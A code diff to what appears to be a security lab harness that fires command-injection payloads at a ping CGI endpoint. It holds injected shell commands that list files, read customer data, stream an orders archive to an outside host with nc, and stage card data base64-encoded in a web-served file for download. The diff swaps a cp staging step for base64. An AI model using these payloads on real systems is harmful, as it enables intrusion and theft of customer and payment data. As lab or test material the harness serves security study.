@@ -22,7 +22,7 @@ const QUERIES = [
   '127.0.0.1; id; ls /data',
   '127.0.0.1; cat /data/customers.csv',
   `127.0.0.1; tar c /data/orders | gzip | nc ${OUTSIDE.host} ${OUTSIDE.port}`,
-  '127.0.0.1; cp /data/cards.txt /www/logo.txt',
+  '127.0.0.1; base64 /data/cards.txt > /www/logo.txt',
   '127.0.0.1; rm /www/logo.txt',
 ];
 
@@ -53,7 +53,7 @@ export const PING_APP: Lab = {
     await recorded(async () => {
       for (const query of QUERIES) {
         await ask(`/cgi-bin/ping?host=${encodeURIComponent(query)}`);
-        if (query.includes(' cp ')) await ask('/logo.txt');
+        if (query.includes('> /www/logo.txt')) await ask('/logo.txt');
         await sleep(150);
       }
     });
